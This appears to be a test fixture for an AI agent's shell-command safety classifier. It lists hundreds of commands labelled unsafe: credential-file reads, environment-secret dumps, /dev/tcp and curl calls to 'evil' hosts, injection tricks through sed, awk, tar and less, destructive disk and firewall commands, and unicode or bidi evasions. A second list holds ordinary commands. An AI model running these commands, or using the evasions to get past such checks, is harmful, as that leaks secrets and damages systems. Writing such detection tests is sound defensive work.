@@ -1,0 +1,1084 @@
+/** Commands that run something of the workspace, send something, write something or show credentials. `⏎` ends a line. */
+export const notSafe = read(String.raw`
+ip link s dev eth0 address 00:11:22:33:44:55
+ip l s eth0 mtu 9000
+ifconfig -a down
+crontab -l x
+blkid -c out
+lspci -q
+lspci -qq
+lshw -dump out
+nm @opts
+objdump @opts
+size @args
+readelf -a @x
+git config --get http.https://github.com/.extraheader
+git config --get-all http.extraHeader
+git config --get credential.helper
+git config get user.password
+git config --get github.token
+git var -l
+npm config get //registry.npmjs.org/:_authToken
+sed '# s/a/⏎e touch x⏎#/' f
+grep -r token ~
+grep -rn AKIA ~/.config
+grep -R x /
+grep -d recurse x ~
+rg --hidden -uuu . ~
+rg x ~/.local/share
+cd ~ && rg token
+cd / && grep -r password .
+diff -r /etc /tmp/x
+git grep --no-index -h . ~
+for f in .*; do cat "$f"; done
+for f in *; do cat "$f"; done
+for f in ~/.aws/*; do head "$f"; done
+$1
+cat "$1"
+cat $1
+printf '%s' "$1"
+cat ~/.config/stripe/config.toml
+cat ~/.local/share/com.vercel.cli/auth.json
+cat ~/.config/netlify/config.json
+cat ~/.supabase/access-token
+cat ~/.railway/config.json
+cat ~/.wrangler/config/default.toml
+cat ~/.bundle/config
+cat ~/.config/age/key.txt
+cat ~/.rclone.conf
+cat ~/.config/ngrok/ngrok.yml
+cat ~/.cloudflared/cert.pem
+cat ~/.sentryclirc
+cat ~/.config/doppler/x
+cat /etc/NetworkManager/system-connections/x
+cat prod.auto.tfvars
+git -C vendor/x.git status
+cd vendor/x.git && git status
+cd vendor/x.git; git log
+git --git-dir=vendor/x.git status
+git --git-dir vendor/x.git log
+GIT_DIR=vendor/x.git git status
+export GIT_DIR=x; git status
+git --work-tree=/tmp status
+(cd x && git diff)
+pushd x && git status
+git -C . -C x status
+kubectl --kubeconfig=./x get pods
+KUBECONFIG=./x kubectl get pods
+kubectl get secrets -o yaml
+kubectl get pods
+kubectl diff -f x.yaml
+oc get pods
+helm template ./chart
+helm list --kubeconfig=./x
+cargo tree
+cargo metadata
+cargo --version
+cargo locate-project
+rustc --version
+rustup show
+rustfmt --check a.rs
+tmux ls -F '#(cmd)'
+tmux list-windows -F '#(touch x)'
+tmux display-message -p '#(touch x)'
+tmux display-message '#(x)'
+tmux show-options
+git push --force --repo --help origin main
+git push --repo --help
+git push -o --help origin main
+git commit --author --help -m x
+git commit -m --help
+git push --force origin main --help
+git -c alias.x='!touch y' x --help
+cloc --vcs=git .
+cloc --vcs='touch x' .
+actionlint -shellcheck=./x
+actionlint -shellcheck ./x
+actionlint
+gawk 'BEGIN{f="system"; @f("id")}'
+awk '@load "x"'
+awk 'BEGIN{print ENVIRON["AWS_SECRET_ACCESS_KEY"]}'
+awk 'BEGIN{for(k in ENVIRON)print ENVIRON[k]}'
+gawk 'BEGIN{print PROCINFO["argv"][0]}'
+awk 'BEGIN{ARGV[1]=".e" "nv";ARGC=2}{print}'
+awk 'BEGIN{"id"|getline x; print x}'
+awk '{print > "out"}' f
+awk '{print | "sh"}' f
+gawk 'BEGIN{print |& "sh"}'
+gawk -i inplace '{print}' f
+gawk -l filefuncs 'BEGIN{}'
+awk -f prog f
+awk 'BEGIN{system("id")}'
+awk '{ x = y / 2; print | "sh"; z = 1 / 2 }' f
+yarn --version
+yarn -v
+yarn --help
+yarn
+yarn list
+yarn why x
+pnpm --version
+pnpm ls
+corepack --version
+corepack yarn --version
+npx eslint --version
+terraform plan
+terraform validate
+terraform show
+terraform version
+terraform output
+terraform state list
+terraform -chdir=x version
+tofu plan
+tflint --config=x
+tflint
+ps eww
+ps auxe
+ps axewww
+ps e
+ps -E
+ps -o environ -p 1
+ps axo pid,environ
+printenv
+printenv DATABASE_URL
+printenv AWS_SECRET_ACCESS_KEY
+env
+set
+export -p
+declare -p
+declare -x
+compgen -W '$(id)'
+"$@"
+$@
+$*
+"$@" --help
+ls "$@"
+echo hi␀
+ls‹bidi›
+cat ‹bidi›x
+cat ~/.config/containers/auth.json
+cat ~/.config/glab-cli/config.yml
+cat ~/.aws/sso/cache/abc.json
+head ~/.config/gh/hosts.yml
+cat ~/.config/gcloud/application_default_credentials.json
+cat ~/.databrickscfg
+cat ~/.pulumi/credentials.json
+cat ~/.cargo/credentials.toml
+cat ~/.m2/settings.xml
+cat ~/.gradle/gradle.properties
+cat ~/.config/rclone/rclone.conf
+cat ~/.oci/config
+cat ~/.codex/auth.json
+cat ~/.claude/.credentials.json
+cat .dev.vars
+cat terraform.tfstate
+cat ~/.config/solana/id.json
+cat ~/.mozilla/firefox/x/logins.json
+cat /run/secrets/x
+cat /proc/self/environ
+cat /proc/1/environ
+strings /proc/self/environ
+cat /proc/self/root/etc/shadow
+cat /proc/self/cwd/.env
+xxd .env
+od -c .env
+base64 .env
+nl .env
+diff .env /dev/null
+sort .env
+grep . .env
+rg . .env
+git show HEAD:.env
+git log -p -- .env
+jq . credentials.json
+bat .env
+less .env
+tac .env
+cut -d= -f2 .env
+sed -n p .env
+awk 1 .env
+wc -l <(cat .env)
+cat < .env
+cat .e[n]v
+cat .env*
+cat ./.env
+cat "$PWD/.env"
+less '+!touch x' f
+less +!id f
+more '+!id' f
+man -P 'touch x' ls
+man --pager='touch x' ls
+man -H ls
+man ./evil.1
+man -l evil.1
+MANPAGER=x man ls
+sort --compress-program=./x f
+sort -o f f
+sort --output=f f
+sort -S1 --compress-program ./x f
+sort --files0-from=x -T .
+rg --pre ./x foo
+rg --pre=./x foo
+rg foo --pre ./x
+rg -z foo
+rg --hostname-bin=./x foo
+rg foo *
+sort *
+git log *
+diff *
+fd -x rm
+fd --exec touch x
+fd -X vim
+find . -exec touch {} \;
+find . -execdir ./x {} +
+find . -ok ls {} \;
+find . -delete
+find . -fprintf out %p
+find . -fls out
+find . -fprint out
+find . -files0-from x
+git grep -O foo
+git grep -Ovim foo
+git grep --open-files-in-pager=./x foo
+git grep --color -O./x foo
+git diff --ext-diff
+git diff --textconv
+git diff --output=x
+git diff --stat --output=x
+git diff --color --output=x
+git log --output=x
+git log --pretty --ext-diff
+git log --ext-diff -p
+git log --textconv
+git show --output=f
+git show --ext-diff
+git -c core.pager=./x log
+git -c core.fsmonitor=./x status
+git -c diff.external=./x diff
+git --config-env=core.pager=X log
+git --exec-path=./x status
+git -p log
+git --paginate log
+git branch topic
+git branch --color topic
+git branch --column topic
+git branch --abbrev topic
+git branch -v topic
+git branch -D x
+git branch --edit-description
+git tag v1
+git tag --sort=x v1
+git remote add x y
+git remote show origin
+git remote update
+git remote prune origin
+git fetch
+git ls-remote
+git ls-remote ext::'sh -c id'
+git archive HEAD
+git archive --remote=x HEAD
+git stash
+git stash drop
+git config user.name x
+git config --list
+git config -l
+git config --get-regexp .
+git config --edit
+git config --global --get-all x --unset
+git config core.pager ./x
+git submodule status
+git submodule foreach ls
+git lfs ls-files
+git lfs fetch
+git bisect run ./x
+git bisect view
+git help -w log
+git fsck --lost
+git fsck --lost-found
+git merge-tree a b
+git notes add
+git reflog expire --all
+git reflog delete x
+git worktree add ../x
+git cat-file --textconv HEAD:x
+git cat-file --filters HEAD:x
+git rev-parse --parseopt
+git blame --contents=.env x
+git diff --no-index /dev/null .env
+git difftool
+git mergetool
+git instaweb
+git web--browse x
+git gui
+git citool
+git maintenance run
+git gc
+git daemon
+git var GIT_EDITOR --help x
+git interpret-trailers x
+git check-ignore --stdin < .env
+git status --help --exec-path=./x
+tar --checkpoint-action=exec=./x -tf a.tar
+tar tf a.tar --use-compress-program=./x
+tar -I ./x -tf a.tar
+tar tf host:a.tar
+tar -tf a.tar --to-command=./x
+tar -F ./x -tf a.tar
+tar cf - .
+tar xf a.tar
+unzip a.zip
+unzip -p a.zip
+zip -T -TT ./x a.zip
+sed -i s/a/b/ f
+sed 's/a/b/e' f
+sed 's/a/b/w out' f
+sed '1e id' f
+sed 'w out' f
+sed '$!N;w out' f
+sed --in-place=.bak s/a/b/ f
+sed -f script f
+sed -n 'r .env' f
+sed -e 's/a\' -e 'b/c/w out' f
+sed -s -i p f
+jq -n env
+jq -n '$ENV'
+jq -n '$ENV.X'
+jq -n 'env.X'
+jq -f prog.jq f
+jq --from-file prog f
+jq -L . 'import "x" as x; .' f
+jq 'include "x"; .' f
+jq 'import "./secret" as $d; $d' -n
+jq -n 'input_filename' f
+jq --rawfile x .env -n '$x'
+jq --slurpfile x .env -n '$x'
+yq 'load(".env")' f
+yq '.x = env(HOME)' f
+yq -i .x=1 f
+yq '.a = system("id")' f
+yq -s .a f
+xxd -r a b
+xxd a b
+uniq a b
+tee f
+ls > f
+ls >> f
+ls >| f
+cat a > b
+: > f
+echo x > f
+echo x >> ~/.bashrc
+ls 2> err
+ls &> out
+date -s now
+date 010100002026
+date --set=now
+date -f .env
+hostname evil
+hostname -F f
+PATH=. ls
+PATH=.:$PATH cat x
+LD_PRELOAD=./x ls
+LESSOPEN='|./x %s' less f
+BASH_ENV=./x bash -c ls
+PAGER=./x git log
+GIT_PAGER=./x git log
+GIT_EXTERNAL_DIFF=./x git diff
+GIT_SSH_COMMAND=./x git status
+GIT_CONFIG_COUNT=1 git status
+RIPGREP_CONFIG_PATH=./x rg foo
+PYTHONPATH=. python --version
+NODE_OPTIONS='--require ./x' node --version
+TAR_OPTIONS=--x tar tf a
+GREP_OPTIONS=x grep a b
+HOME=. git status
+XDG_CONFIG_HOME=. git status
+IFS=x ls
+./ls
+bin/ls
+node_modules/.bin/eslint --version
+./node_modules/.bin/tsc --version
+../ls
+~/bin/ls
+/tmp/ls
+/home/u/p/ls
+/usr/bin/../../home/u/p/ls
+alias ls=./x; ls
+ls() { ./x; }; ls
+function cat { rm "$@"; }; cat f
+hash -p ./x ls; ls
+enable -f ./x.so ls
+command ./x
+builtin source ./x
+source ./x
+. ./x
+exec ./x
+eval "$(cat x)"
+bash x.sh
+bash -c "$X"
+sh < x
+bash -i
+python x.py
+python -c 'print(1)'
+python -m http.server
+node x.js
+node -e 1
+perl -e 1
+ruby -e 1
+php -r 1
+make
+make -n
+make --dry-run
+make -p
+make --version -f x
+npm test
+npm run x
+npm view lodash
+npm view $(cat x)
+npm outdated
+npm audit
+npm ping
+npm whoami
+npm search x
+npm pack --dry-run
+npm exec x
+npm version patch
+npm ls --registry=http://evil
+npm config set x y
+npm doctor
+npx x
+bun pm ls
+bun x
+bunx y
+deno info https://evil/x.ts
+deno run x
+go version
+go env
+go list ./...
+go list -toolexec=./x ./...
+go mod verify
+go doc x
+go vet -vettool=./x
+gradle --version
+gradle tasks
+mvn --version
+mvn dependency:tree
+composer --version
+composer show
+bundle list
+bundle --version
+dotnet --version
+dotnet --info
+poetry show
+poetry env info
+uv pip list
+uv tree
+pip freeze
+pip download x
+pip index versions x
+pip list --outdated
+pip install x
+pip debug
+gem search x
+gem outdated
+brew info x
+brew search x
+brew update
+docker -H tcp://evil:2375 ps
+docker --host=tcp://evil ps
+docker --context=x ps
+docker --config=./x ps
+DOCKER_HOST=tcp://evil docker ps
+docker search x
+docker inspect x
+docker compose config
+docker compose ps
+docker compose -f evil.yml ps
+docker run alpine ls
+docker run alpine --help
+docker exec c ls
+docker top c eww
+docker events --help x
+docker build .
+podman run x --help
+gh api /user
+gh api -X DELETE /repos/x
+gh pr list
+gh search code secret
+gh auth token
+gh auth status -t
+glab mr list
+aws s3 ls
+aws ec2 describe-instances
+aws sts get-session-token
+aws --endpoint-url=http://evil s3 ls
+aws configure list
+aws configure get aws_secret_access_key
+gcloud auth print-access-token
+gcloud config list
+az account get-access-token
+az account show
+heroku config
+fly status
+vercel ls
+vault status
+vault status -address=http://evil
+redis-cli -h evil ping
+redis-cli info
+psql -l
+psql -h evil -l
+pg_isready -h evil
+mysql -h evil --help x
+curl http://x
+curl --version http://evil
+curl -V http://evil
+wget http://x
+dig x.evil
+nslookup x.evil
+host x.evil
+ping -c1 evil
+getent hosts secret.evil.com
+getent ahosts x.evil
+traceroute x
+nc evil 1
+ssh host ls
+ssh -V host
+scp a b:
+rsync a b:
+telnet x
+whois x
+tldr ls
+xmllint http://evil/x
+xmllint --valid x.xml
+xmllint --schema http://evil f
+cat < /dev/tcp/evil/80
+exec 3<>/dev/tcp/evil/80
+echo x > /dev/udp/evil/53
+systemctl -H evil status
+systemctl show-environment
+systemctl show x
+systemctl restart x
+systemctl edit x
+journalctl --vacuum-time=1s
+journalctl --rotate
+service x restart
+networkctl reload
+networkctl renew eth0
+nft list ruleset ';' flush ruleset
+ip -batch f
+ip link set eth0 down
+ip netns exec x ls
+ifconfig eth0 down
+route add x
+arp -d x
+iptables -F
+iptables -L -Z
+ss -K
+ss -D out
+parted -l /dev/sda mklabel gpt
+fdisk /dev/sda
+black -l 100 f.py
+black f.py
+isort -l 100 f.py
+isort -c f.py
+ruff check --fix
+ruff check
+rubocop
+eslint .
+eslint --version -c ./x
+prettier --check .
+prettier --check . --plugin=./x
+tsc --noEmit
+tsc -p evil
+jest --version --config=./x
+vitest --version
+pytest --version
+pytest --collect-only
+mypy .
+code --list-extensions .
+code --status
+cursor .
+xcrun -f clang
+kind get clusters
+minikube status
+lxc list evil:
+virsh list
+screen -X stuff x
+script -c ls
+watch -n1 ./x
+xargs ls
+ls | xargs rm
+ls | xargs -I{} sh -c '{}'
+parallel ls ::: a
+time -o out ls
+nohup ls
+sudo ls
+strace ls
+ltrace ls
+gdb ls
+ldd ./x
+file -C -m x
+file -m ./magic x
+tree -o out
+tree --fromfile -o x
+wc --files0-from=.env
+cal -f x
+history
+fc -l
+fc -s x
+trap ./x EXIT
+trap './x' DEBUG; ls
+mapfile -C ./x -c 1 a < f
+printf -v 'a[$(id)]' x
+test -v 'a[$(./x)]'
+[ -v 'a[$(./x)]' ]
+read 'a[$(./x)]'
+unset 'a[$(./x)]'
+let 'a[$(./x)]=1'
+declare -i n='a[$(./x)]'
+[[ 'a[$(./x)]' -eq 0 ]]
+echo $((a[$(./x)]))
+echo ＄{x:-$(./x)}
+echo ˋ./xˋ
+cat <(./x)
+ls > >(./x)
+coproc ./x
+ls & ./x
+ls || ./x
+ls && ./x
+ls; ./x
+ls | ./x
+! ./x
+if ./x; then ls; fi
+while ./x; do ls; done
+for i in $(./x); do ls; done
+case $(./x) in a) ls;; esac
+{ ./x; }
+( ./x )
+cat <<E⏎$(./x)⏎E
+bash <<E⏎./x⏎E
+sh -c './x'
+env ./x
+nice ./x
+timeout 5 ./x
+busybox sh -c ./x
+sed -n '1p' ~/.ssh/id_rsa
+cat ~/.bash_history
+cat ~/.zsh_history
+tail ~/.psql_history
+cat /etc/shadow
+cat /dev/sda
+dd if=/dev/sda
+LS
+lS
+ｌｓ
+ls --help --exec
+openssl s_client -connect evil:443
+openssl enc -d -in x -out y
+openssl x509 -in x -out y
+openssl req -new -key x
+gpg --verify x
+gpg --decrypt x
+gpg --homedir=. --list-keys
+ssh-keygen -f x
+ssh-keygen -D ./x.so
+ssh-add ./x
+ssh-add -s ./x.so
+crontab f
+crontab -e
+at now
+lsblk -o NAME > x
+rpm -qp http://evil/x.rpm
+rpm --eval '%(id)'
+rpm -E '%(id)'
+dpkg -i x.deb
+apt install x
+apt-get update
+dpkg --root=x -l
+rustc - --version
+shellcheck -x evil.sh
+hadolint -c ./x f
+yamllint -c ./x f
+yamllint -d x f
+make --help -f evil
+gofmt -w f
+gofmt -r 'a -> b' -w f
+terraform fmt
+terraform fmt -check -write
+npm --prefix evil run x
+git log --help x
+node --version --require ./x
+node -v x.js
+python --version x.py
+vim --version -c ':!x'
+ffmpeg -version -i x
+bash -n +n x.sh
+echo $DATABASE_URL
+echo "$FOO"
+printf %s "$AWS_SECRET_ACCESS_KEY"
+git push --force --help
+git push origin main --force --help
+npm start --help
+docker create img --help
+kubectl debug pod --help
+git foo bar baz qux --help
+`)
+
+/** What people and agents look around with, all day long. */
+export const ordinary = read(String.raw`
+ls
+ls -la
+ls -la src
+ls -R
+ls *.ts
+ls -lh --color=auto
+ls -1 | head -20
+ls -t | head
+ll=1; ls
+pwd
+cd src && ls
+cd src; ls -la
+cd .. && pwd
+cat package.json
+cat src/index.ts | head -50
+cat -n file.ts
+cat a b c
+cat .env.example
+cat .gitignore
+cat README.md | grep -i install
+head -20 file
+head -n 20 file
+head -c 100 file
+tail -50 log.txt
+tail -n +10 file
+tail -f log
+wc -l file
+wc -l *.ts
+find . -name '*.ts'
+find . -type f -name '*.md' -not -path './node_modules/*'
+find src -maxdepth 2 -type d
+find . -name '*.ts' | head -20
+find . -name '*.ts' | wc -l
+find . -mtime -1 -size +10k
+find . -type f -newer x
+find . -name a -o -name b
+find . -path ./node_modules -prune -o -name '*.js' -print
+find . -empty
+find . -printf '%p\n'
+grep foo file
+grep -rn foo src
+grep -rn 'foo bar' src --include=*.ts
+grep -rn "TODO" . --include='*.py' | head
+grep -E 'a|b' file
+grep -c foo file
+grep -l foo *.ts
+grep -v '^#' file
+grep -A3 -B3 foo file
+grep -i --color foo file
+grep -rnw 'x' lib
+grep -oP '\d+' file
+egrep 'a|b' f
+rg foo
+rg -n foo src
+rg -t ts foo
+rg 'class \w+' --type py
+rg -l foo | head
+rg --files | head
+rg --files -g '*.ts'
+rg -C 3 foo src
+rg -i foo -g '!node_modules'
+fd foo
+fd -e ts
+fd -t f foo src
+ag foo src
+git status
+git status -s
+git status --short --branch
+git status --porcelain
+git status -uno
+git log
+git log --oneline
+git log --oneline -10
+git log -5
+git log -n 5 --stat
+git log --graph --oneline --all
+git log -p -1
+git log --since='2 days ago'
+git log --author=x --oneline
+git log --format='%h %s' -5
+git log --pretty=oneline
+git log main..HEAD
+git log -- src/a.ts
+git log --follow src/a.ts
+git log -S foo --oneline
+git log --name-only -3
+git diff
+git diff HEAD
+git diff --stat
+git diff --cached
+git diff --staged
+git diff main...HEAD
+git diff HEAD~1
+git diff --name-only
+git diff --name-status main
+git diff a b -- src
+git diff --word-diff
+git diff -w
+git show
+git show HEAD
+git show HEAD --stat
+git show HEAD:src/a.ts
+git show abc123 --name-only
+git branch
+git branch -a
+git branch -vv
+git branch --show-current
+git branch --list 'feature/*'
+git branch -r
+git branch --contains HEAD
+git tag
+git tag -l
+git tag --list 'v*'
+git remote
+git remote -v
+git remote get-url origin
+git stash list
+git stash show -p
+git blame src/a.ts
+git blame -L 1,10 src/a.ts
+git rev-parse HEAD
+git rev-parse --abbrev-ref HEAD
+git rev-parse --show-toplevel
+git rev-list --count HEAD
+git ls-files
+git ls-files src
+git ls-files --others --exclude-standard
+git ls-tree HEAD
+git ls-tree -r HEAD --name-only
+git cat-file -p HEAD
+git describe --tags
+git merge-base main HEAD
+git reflog
+git reflog -10
+git shortlog -sn
+git grep foo
+git grep -n foo -- src
+git config --get user.name
+git config --get remote.origin.url
+git check-ignore file
+git worktree list
+git for-each-ref --sort=-committerdate
+git count-objects -vH
+git name-rev HEAD
+git diff --shortstat
+git --no-pager log -3
+git --no-pager diff
+git status && git diff
+git status; git log -1
+git log --oneline | head -5
+git diff | head -100
+git diff --stat | tail -1
+git log --oneline | wc -l
+git show --stat HEAD | cat
+echo hello
+echo "hello world"
+echo -n x
+echo $HOME
+echo $((1+2))
+printf '%s\n' a b
+true
+:
+sleep 1
+date
+date +%Y-%m-%d
+date -u
+whoami
+id
+uname -a
+hostname
+uptime
+df -h
+du -sh .
+du -sh *
+du -h --max-depth=1
+free -h
+ps aux
+ps -ef
+ps aux | grep node
+ps -p 123 -o pid,cmd
+ps -eo pid,comm --sort=-pcpu
+pgrep -f node
+top -b -n 1
+lsof -i :3000
+ss -tlnp
+netstat -an
+which node
+which python3 node
+type ls
+command -v node
+node --version
+node -v
+npm --version
+npm -v
+python --version
+python3 --version
+python3 -V
+ruby -v
+java -version
+gcc --version
+make --version
+git --version
+docker --version
+bash --version
+npm ls
+npm ls --depth=0
+npm list -g --depth 0
+npm root
+npm config get registry
+npm pkg get scripts
+pip list
+pip show requests
+docker ps
+docker ps -a
+docker images
+docker logs web --tail 50
+docker logs -f web
+stat file
+file image.png
+file *
+basename a/b
+dirname a/b
+realpath .
+readlink -f x
+tree
+tree -L 2
+tree -I node_modules
+sort file
+sort -u file
+sort -k2 -n file
+sort file | uniq -c | sort -rn
+uniq file
+cut -d: -f1 file
+cut -c1-10 file
+tr a-z A-Z < file
+diff a b
+diff -u a b
+diff -r a b
+cmp a b
+comm -12 a b
+md5sum file
+sha256sum file
+sha256sum *.tgz
+xxd file | head
+od -c file
+hexdump -C file | head
+strings bin | head
+nl file
+tac file
+rev file
+column -t file
+fold -w 80 file
+paste a b
+join a b
+jq . package.json
+jq '.scripts' package.json
+jq -r '.version' package.json
+cat package.json | jq '.dependencies | keys'
+yq .a f.yaml
+sed -n '1,20p' file
+sed -n 5p file
+sed 's/a/b/' file
+sed -e 's/a/b/g' file
+sed -E 's/(a)/b/' file | head
+awk '{print $1}' file
+awk -F, '{print $2}' f.csv
+awk 'NR==5' file
+awk '/foo/ {print $2}' file
+awk '/a|b/' file
+awk '{s+=$1} END {print s}' file
+awk 'length > 80' file
+less file
+man ls
+tar tf a.tar
+tar -tzf a.tgz
+unzip -l a.zip
+zcat a.gz | head
+gzip -l a.gz
+base64 file.png
+echo aGk= | base64 -d
+test -f a && echo yes
+[ -d src ] && ls src
+[[ -f a ]] && cat a
+if [ -f a ]; then cat a; fi
+for f in a b c; do echo $f; done
+for f in *.ts; do wc -l "$f"; done
+for i in 1 2 3; do echo $i; done
+while read l; do echo x; done < file
+ls 2>/dev/null
+ls > /dev/null 2>&1
+cat file 2>/dev/null || echo none
+ls -la; pwd; whoami
+(cd src && ls)
+{ ls; pwd; }
+cat <<'EOF'⏎hi⏎EOF
+cat a.ts b.ts | wc -l
+timeout 10 ls
+time ls
+nice ls
+env LANG=C ls
+LC_ALL=C sort file
+TZ=UTC date
+NO_COLOR=1 ls
+bash -c 'ls | wc -l'
+sh -c 'cat a'
+x=1; echo $x
+x=$(ls); echo done
+echo "$(git rev-parse HEAD)"
+echo "$(pwd)"
+git log -1 --format=%H
+git status --help
+docker ps --help
+kubectl delete pod --help
+npm install --help
+ls --help
+rm --version
+rm --help
+grep --help
+git push --help
+systemctl status nginx
+journalctl -u nginx -n 50
+dmesg | tail
+crontab -l
+lsblk
+lscpu
+ip a
+ip addr show
+ifconfig
+mount
+apt list --installed
+dpkg -l | grep foo
+brew list
+printenv PATH
+printenv HOME
+shellcheck x.sh
+cloc src
+tokei
+openssl x509 -in cert.crt -noout -text
+openssl version
+ssh-add -l
+gpg --list-keys
+tmux ls
+echo $?
+echo "exit: $?"
+ls; echo "done $?"
+bash -n script.sh
+bash --version
+git for-each-ref --format='%(refname)' refs/heads
+`)
+
+function read(table: string): string[] {
+  const signs: Record<string, string> = { '⏎': '\n', '␀': '\0', '‹bidi›': '\u202e', ˋ: '\x60', '＄{': '\x24{' }
+  return table
+    .trim()
+    .split('\n')
+    .map((line) => line.replace(/⏎|␀|‹bidi›|ˋ|＄\{/g, (sign) => signs[sign] ?? sign))
+}
